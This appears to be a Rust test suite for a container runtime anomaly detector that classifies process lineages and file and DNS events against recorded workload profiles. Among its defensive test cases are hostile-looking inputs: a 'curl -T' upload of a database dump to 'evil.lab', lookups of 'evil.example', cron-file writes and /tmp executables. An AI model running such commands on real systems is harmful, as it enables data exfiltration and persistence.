//! One case a row: what was watched, what was raised, and the verdict by the definitions.

use super::world::World;
use super::world::{Dump, at, did, dump, exec, signal};
use crate::model::Event;
use crate::signals::{Evidence, Mark, Position, Side, Verdict, Why};

const APP: &str = "\
/opt/api.sh
  /usr/bin/gunicorn app:app
    /usr/bin/dash -c df
      /usr/bin/df -h
    r /etc/passwd
    w /var/log/app.log
    dns db.internal
";

/// The workload watched in this many instances before the event, each in a dump of its own.
fn watched(instances: u64, script: &str) -> Vec<Dump> {
    (0..instances).map(|i| dump(format!("other-{i}"), (10 + i, 20 + i), script)).collect()
}

fn judged(dumps: &[Dump], event: Event) -> Verdict {
    World::of(dumps).judge(&signal([event]))
}

fn verdict(dumps: &[Dump], event: Event) -> (Position, Evidence) {
    let verdict = judged(dumps, event);
    (verdict.position, verdict.evidence)
}

const GUNICORN: &str = "/opt/api.sh > /usr/bin/gunicorn app:app";

fn under_gunicorn(rest: &str) -> String {
    format!("{GUNICORN} > {rest}")
}

#[test]
fn what_others_always_do_is_known_and_usual() {
    let verdict = judged(&watched(12, APP), exec(&under_gunicorn("/usr/bin/dash -c df > /usr/bin/df -h")));
    assert_eq!((verdict.position, verdict.evidence), (Position::Known, Evidence::Usual));
    assert_eq!(verdict.links, [Mark::Usual; 4]);
    let units = verdict.units.unwrap();
    assert_eq!((units.share.k, units.share.n, verdict.is_settled()), (12, 12, true));
    assert!((verdict.bound.unwrap() - 0.757).abs() < 0.001);
}

#[test]
fn positions_follow_the_table() {
    let app = watched(12, APP);
    for (event, wanted) in [
        (exec(&under_gunicorn("/usr/bin/dash -c df")), Position::Known),
        // `sh -c` with unseen arguments, itself and above what is known.
        (exec(&under_gunicorn("/usr/bin/dash -c curl")), Position::NewUse),
        (exec(&under_gunicorn("/usr/bin/dash -c curl > /usr/bin/df -h")), Position::NewUse),
        (exec(&under_gunicorn("/usr/bin/curl http://x")), Position::NewProcess),
        (exec(&under_gunicorn("/tmp/.x")), Position::NewProcess),
        // The same path with another user, or from the container's own layer.
        (exec("/opt/api.sh > /usr/bin/gunicorn app:app @ uid=33"), Position::NewUse),
        (exec("/opt/api.sh > /usr/bin/gunicorn app:app @ upper"), Position::NewUse),
        // A linked path: alike, but not the same.
        (exec(&under_gunicorn("/bin/dash -c df")), Position::NewUse),
        // The same executable twice in a row collapses.
        (exec(&under_gunicorn("/usr/bin/gunicorn app:app > /usr/bin/dash -c df")), Position::Known),
        // Files and names.
        (did(GUNICORN, "r /etc/passwd"), Position::Known),
        (did(GUNICORN, "w /etc/passwd"), Position::NewUse),
        (did(GUNICORN, "w /var/log/app.log"), Position::Known),
        (did(GUNICORN, "w /etc/cron.d/x"), Position::NewLeaf),
        (did(GUNICORN, "r /etc/passw*"), Position::NewLeaf),
        (did(GUNICORN, "dns db.internal"), Position::Known),
        (did(GUNICORN, "dns evil.example"), Position::NewLeaf),
        // What no profile records.
        (did(GUNICORN, "chmod /etc/passwd"), Position::CannotSay(Why::OperationNotRecorded)),
        (did(GUNICORN, "chmod /tmp/.x"), Position::NewLeaf),
        (did(GUNICORN, "ptrace"), Position::CannotSay(Why::OperationNotRecorded)),
        // A lineage that begins otherwise.
        (exec("/sbin/init > /usr/bin/gunicorn app:app > /usr/bin/dash -c df"), Position::UnknownLineage),
        (exec("/tmp/x"), Position::NewProcess),
    ] {
        assert_eq!(verdict(&app, event.clone()).0, wanted, "{:?} {:?}", event.lineage, event.deed);
    }
}

#[test]
fn a_shell_below_another_with_a_new_command_says_which() {
    let verdict = judged(&watched(12, APP), did(&under_gunicorn("/usr/bin/dash -c evil"), "w /etc/cron.d/x"));
    // Both are new; the file weighs more than the arguments.
    assert_eq!(verdict.position, Position::NewLeaf);
    assert_eq!(verdict.links, [Mark::Usual, Mark::Usual, Mark::NewArguments]);
    assert_eq!(verdict.deed, Mark::New);
    assert!(
        verdict.reasons.iter().any(|reason| reason.side == Side::Concern && reason.id == "new-arguments")
    );
}

#[test]
fn a_new_process_below_a_shell_with_a_new_command_says_both() {
    let verdict = judged(&watched(12, APP), exec(&under_gunicorn("/usr/bin/dash -c evil > /tmp/x")));
    assert_eq!(verdict.position, Position::NewProcess);
    assert_eq!(verdict.links, [Mark::Usual, Mark::Usual, Mark::NewArguments, Mark::New]);
}

#[test]
fn a_facet_that_nobody_recorded_says_nothing() {
    let app = watched(12, "/opt/api.sh\n  /usr/bin/gunicorn app:app\n");
    let wanted = Position::CannotSay(Why::FacetNotRecorded);
    assert_eq!(verdict(&app, did(GUNICORN, "dns evil.example")).0, wanted);
    assert_eq!(verdict(&app, did(&under_gunicorn("/tmp/x"), "dns evil.example")).0, Position::NewProcess);
}

#[test]
fn the_same_path_with_another_hash_is_a_new_use() {
    let app = watched(12, "/opt/api.sh @ hash=aa\n");
    assert_eq!(verdict(&app, exec("/opt/api.sh @ hash=aa")).0, Position::Known);
    assert_eq!(verdict(&app, exec("/opt/api.sh @ hash=bb")).0, Position::NewUse);
}

#[test]
fn an_applet_of_busybox_is_told_by_its_name() {
    let app = watched(12, "/opt/run.sh\n  /bin/busybox ls -l\n");
    assert_eq!(verdict(&app, exec("/opt/run.sh > /bin/busybox ls -l")).0, Position::Known);
    assert_eq!(verdict(&app, exec("/opt/run.sh > /bin/busybox wget x")).0, Position::NewProcess);
}

#[test]
fn a_chain_of_execs_may_miss_a_link_on_either_side() {
    let app = watched(12, "/opt/run.sh\n  /usr/bin/dash -c x\n    /opt/app @ exec\n  /opt/tool\n");
    for lineage in [
        "/opt/run.sh > /usr/bin/dash -c x > /opt/app",
        "/opt/run.sh > /opt/app",
        "/opt/run.sh > /usr/bin/env @ exec > /opt/tool",
    ] {
        assert_eq!(verdict(&app, exec(lineage)).0, Position::Known, "{lineage}");
    }
    // A fork in between is no exec.
    assert_eq!(verdict(&app, exec("/opt/run.sh > /usr/bin/env > /opt/tool")).0, Position::NewProcess);
}

#[test]
fn a_lineage_cut_at_its_root_is_matched_by_its_end() {
    let app = watched(12, APP);
    let mut event = exec("/usr/bin/gunicorn app:app > /usr/bin/dash -c df");
    event.lineage_cut = true;
    assert_eq!(verdict(&app, event.clone()), (Position::ParentLost, Evidence::Usual));
    // The agent does not say so, but the outermost process has a parent that is not shown.
    event.lineage_cut = false;
    event.outermost_ppid = Some(4711);
    assert_eq!(verdict(&app, event).0, Position::ParentLost);
    let mut alone = exec("/usr/bin/dash -c df");
    alone.lineage_cut = true;
    assert_eq!(verdict(&app, alone).0, Position::UnknownLineage, "one name is no lineage");
}

#[test]
fn what_is_executed_into_a_container_entered_from_outside() {
    let app = watched(12, APP);
    let mut event = exec("/usr/bin/containerd-shim-runc-v2 > /usr/bin/dash");
    event.outermost_ppid = Some(1);
    event.lineage[1].tty = "pts0".to_owned();
    assert_eq!(verdict(&app, event.clone()).0, Position::EnteredFromOutside);
    // Without a terminal it shows by the time: long after the container was made.
    event.lineage[1].tty.clear();
    event.container_created = Some(at(2));
    event.outermost_started = Some(at(100));
    assert_eq!(verdict(&app, event).0, Position::EnteredFromOutside);
    let mut session = exec(GUNICORN);
    session.session = "alice".to_owned();
    assert_eq!(verdict(&app, session).0, Position::EnteredFromOutside, "even what is known");
    let started = "/usr/bin/containerd-shim-runc-v2 > /opt/api.sh > /usr/bin/gunicorn app:app";
    assert_eq!(
        verdict(&app, exec(started)),
        (Position::Known, Evidence::Usual),
        "the runtime is no part of it"
    );
}

#[test]
fn a_name_with_wildcards_covers_nothing_unless_the_recording_says_so() {
    let named = watched(12, "/opt/api.sh\n  w /etc/cron.d/*\n");
    assert_eq!(verdict(&named, did("/opt/api.sh", "w /etc/cron.d/evil")).0, Position::NewUse);
    assert_eq!(verdict(&named, did("/opt/api.sh", "w /etc/cron.d/*")).0, Position::NewUse);
    let pattern = watched(12, "/opt/api.sh\n  p /var/tmp/run-*\n");
    assert_eq!(verdict(&pattern, did("/opt/api.sh", "r /var/tmp/run-77")).0, Position::Known);
    let reduced = watched(12, "/opt/api.sh\n  r /proc/*/status\n");
    assert_eq!(verdict(&reduced, did("/opt/api.sh", "r /proc/417/status")).0, Position::Known);
    assert_eq!(verdict(&reduced, did("/opt/api.sh", "r /proc/self/status")).0, Position::NewUse);
}

#[test]
fn a_verdict_does_not_vouch_for_itself() {
    let evil = "/opt/api.sh\n  /tmp/.x\n";
    let event = || exec("/opt/api.sh > /tmp/.x");
    let mut dumps = watched(12, APP);
    dumps.push(dump("own", (99, 101), evil));
    let judged_by_own = judged(&dumps, event());
    assert_eq!((judged_by_own.position, judged_by_own.evidence), (Position::NewProcess, Evidence::None));
    assert_eq!(judged_by_own.excluded.own, 1);
    // An end at the very moment of the event may hold it.
    dumps.push(dump("own", (98, 100), evil));
    assert_eq!(verdict(&dumps, event()), (Position::NewProcess, Evidence::None));
    // An earlier recording of the same instance is heard, and told.
    dumps.push(dump("own", (90, 95), evil));
    let earlier = judged(&dumps, event());
    assert_eq!((earlier.position, earlier.evidence), (Position::Known, Evidence::OneInstance));
    assert!(earlier.reasons.iter().any(|reason| reason.id == "only-own"));
    assert!(!earlier.is_settled());
}

#[test]
fn without_a_container_every_snapshot_that_holds_the_event_is_its_own() {
    let mut dumps = watched(12, APP);
    dumps.push(dump("other-99", (99, 101), "/opt/api.sh\n  /tmp/.x\n"));
    let mut event = exec("/opt/api.sh > /tmp/.x");
    event.container = None;
    let verdict = judged(&dumps, event);
    assert_eq!((verdict.position, verdict.evidence), (Position::NewProcess, Evidence::None));
    assert_eq!((verdict.excluded.own, verdict.excluded.later), (1, 0));
}

#[test]
fn what_others_did_later_counts_apart() {
    let mut dumps = watched(12, APP);
    dumps.extend((0..20).map(|i| dump(format!("late-{i}"), (99, 110), "/opt/api.sh\n  /tmp/.x\n")));
    let verdict = judged(&dumps, exec("/opt/api.sh > /tmp/.x"));
    assert_eq!((verdict.position, verdict.evidence), (Position::NewProcess, Evidence::OnlyAfter));
    assert_eq!(verdict.excluded.later, 20);
}

#[test]
fn evidence_is_as_strong_as_those_who_give_it() {
    let with = |k: u64, n: u64| -> Vec<Dump> {
        (0..n)
            .map(|i| {
                dump(format!("other-{i}"), (10, 20), if i < k { "/opt/a\n  /opt/b\n" } else { "/opt/a\n" })
            })
            .collect()
    };
    for ((k, n), wanted) in [
        ((12, 12), Evidence::Usual),
        ((9, 9), Evidence::Usual),
        ((8, 8), Evidence::Rare),
        ((2, 12), Evidence::Rare),
        ((1, 12), Evidence::OneInstance),
        ((1, 1), Evidence::OneInstance),
        ((0, 12), Evidence::None),
    ] {
        assert_eq!(verdict(&with(k, n), exec("/opt/a > /opt/b")).1, wanted, "{k} of {n}");
    }
}

#[test]
fn a_daily_job_in_few_instances_is_regular() {
    let mut dumps = Vec::new();
    // A new instance a day; the job runs in one of three that run each day.
    for day in 0..4 {
        for one in 0..4 {
            let script = if one == 0 { "/opt/a\n  /opt/job\n" } else { "/opt/a\n" };
            dumps.push(dump(format!("i-{day}-{one}"), (day * 24, day * 24 + 1), script));
        }
    }
    let verdict = judged(&dumps, exec("/opt/a > /opt/job"));
    assert_eq!((verdict.position, verdict.evidence), (Position::Known, Evidence::Regular));
    assert!(verdict.is_settled());
    // The same in one instance convinces nobody.
    let alone: Vec<Dump> = (0..4)
        .map(|day| dump("one", (day * 24, day * 24 + 1), "/opt/a\n  /opt/job\n"))
        .chain((0..12).map(|i| dump(format!("i-{i}"), (1, 2), "/opt/a\n")))
        .collect();
    assert_eq!(judged(&alone, exec("/opt/a > /opt/job")).evidence, Evidence::OneInstance);
}

#[test]
fn of_another_version_only_so_much_can_be_said() {
    let old: Vec<Dump> = watched(12, APP).into_iter().map(|dump| dump.version("v0")).collect();
    let event = || exec(&under_gunicorn("/usr/bin/dash -c df"));
    let new = || exec(&under_gunicorn("/tmp/x"));
    // What other versions did is evidence of a kind, but nobody can say where this version stands.
    assert_eq!(verdict(&old, event()), (Position::CannotSay(Why::VersionUnseen), Evidence::OtherVersion));
    assert_eq!(verdict(&old, new()), (Position::CannotSay(Why::VersionUnseen), Evidence::None));
    let mut both = old.clone();
    both.extend(watched(3, "/opt/api.sh\n"));
    assert_eq!(verdict(&both, event()), (Position::Known, Evidence::OtherVersion));
    assert_eq!(verdict(&both, new()).0, Position::NewProcess);
    let mut later = old;
    later.push(dump("late", (99, 101), APP));
    assert_eq!(
        verdict(&later, event()),
        (Position::CannotSay(Why::NothingWatchedBefore), Evidence::OtherVersion)
    );
    assert_eq!(verdict(&[], event()), (Position::CannotSay(Why::VersionUnseen), Evidence::None));
}

#[test]
fn recordings_that_are_all_cut_short_do_not_make_anything_new() {
    let mut cut = watched(3, "/opt/api.sh\n");
    cut.iter_mut().for_each(|dump| dump.cut = true);
    assert_eq!(verdict(&cut, exec("/opt/api.sh > /tmp/x")).0, Position::CannotSay(Why::ProfileTruncated));
    assert_eq!(verdict(&cut, exec("/opt/api.sh")).0, Position::Known, "what is there is there");
    cut.extend(watched(1, "/opt/api.sh\n"));
    assert_eq!(verdict(&cut, exec("/opt/api.sh > /tmp/x")).0, Position::NewProcess);
}

#[test]
fn a_sum_of_an_agent_cannot_be_split_but_by_time() {
    let sum = |from, to| Dump { aggregate: true, ..dump("own", (from, to), "/opt/api.sh\n") };
    let event = exec("/opt/api.sh");
    assert_eq!(verdict(&[sum(10, 101)], event.clone()).0, Position::CannotSay(Why::OwnNotSeparable));
    // It ended before the event, or what is asked for was seen before the container was made.
    assert_eq!(verdict(&[sum(10, 90)], event.clone()), (Position::Known, Evidence::OneInstance));
    let mut younger = event.clone();
    younger.container_created = Some(at(50));
    assert_eq!(verdict(&[sum(10, 101)], younger), (Position::Known, Evidence::OneInstance));
    let mut older = event;
    older.container_created = Some(at(5));
    assert_eq!(verdict(&[sum(10, 101)], older), (Position::CannotSay(Why::OwnNotSeparable), Evidence::None));
}

#[test]
fn the_worst_event_decides_and_the_rest_is_told() {
    let world = World::of(&watched(12, APP));
    let mut many = signal([exec(GUNICORN), exec(&under_gunicorn("/tmp/x")), exec(GUNICORN)]);
    many.count = 57;
    let verdict = world.judge(&many);
    assert_eq!((verdict.position, verdict.event), (Position::NewProcess, 1));
    assert_eq!((verdict.judged.judged, verdict.judged.of), (3, 57));
    assert!(verdict.reasons.iter().any(|reason| reason.id == "unjudged-events"));
    let none = world.judge(&signal([]));
    assert_eq!(none.position, Position::CannotSay(Why::NoEvent));
}

#[test]
fn an_event_without_a_time_is_after_nothing() {
    let mut event = exec(GUNICORN);
    event.time = None;
    let mut signal = signal([event]);
    signal.time = None;
    let verdict = World::of(&watched(12, APP)).judge(&signal);
    assert_eq!(verdict.position, Position::CannotSay(Why::NothingWatchedBefore));
}

#[test]
fn a_file_that_is_called_as_a_runtime_cuts_nothing_off() {
    let app = watched(12, APP);
    for outside in ["", "/usr/bin/containerd-shim-runc-v2 > "] {
        let hidden = format!("{outside}/opt/api.sh > /tmp/runc > /opt/api.sh > /usr/bin/gunicorn app:app");
        assert_eq!(verdict(&app, exec(&hidden)).0, Position::NewProcess, "{hidden}");
    }
}

#[test]
fn arguments_that_differ_only_in_what_a_clock_wrote_are_no_new_use() {
    const NIGHTLY: &str = "\
/opt/cron.sh
  /usr/bin/curl -T /srv/dump-20261120.sql https://store.lab/in/
  /usr/bin/python3 /opt/sum.py --from /srv/dump-20261120.sql
  /usr/bin/dash -c cat␣/srv/dump-20261120.sql
";
    let nightly = watched(12, NIGHTLY);
    for (link, wanted) in [
        ("/usr/bin/curl -T /srv/dump-20261120.sql https://store.lab/in/", Position::Known),
        ("/usr/bin/curl -T /srv/dump-20261121.sql https://store.lab/in/", Position::Known),
        ("/usr/bin/python3 /opt/sum.py --from /srv/dump-20261121.sql", Position::Known),
        ("/usr/bin/curl -T /srv/dump-20261121.sql https://evil.lab/in/", Position::NewUse),
        ("/usr/bin/curl -T /srv/users-20261121.sql https://store.lab/in/", Position::NewUse),
        ("/usr/bin/curl -T /srv/dump-20261121.sql -k https://store.lab/in/", Position::NewUse),
        ("/usr/bin/python3 /opt/sum-20261121.py --from /srv/dump-20261120.sql", Position::NewUse),
        ("/usr/bin/dash -c cat␣/srv/dump-20261121.sql", Position::NewUse),
    ] {
        let verdict = judged(&nightly, exec(&format!("/opt/cron.sh > {link}")));
        assert_eq!(verdict.position, wanted, "{link}");
        let says = verdict.reasons.iter().find(|reason| reason.id == "arguments-nearly");
        let nearly = wanted == Position::Known && link.contains("20261121");
        assert_eq!(says.is_some(), nearly, "{link}: {:?}", verdict.reasons);
        if let Some(reason) = says {
            assert_eq!(reason.side, Side::Against);
            assert!(reason.text.ends_with("arguments as kept but for a date or time"), "{}", reason.text);
        }
    }
}
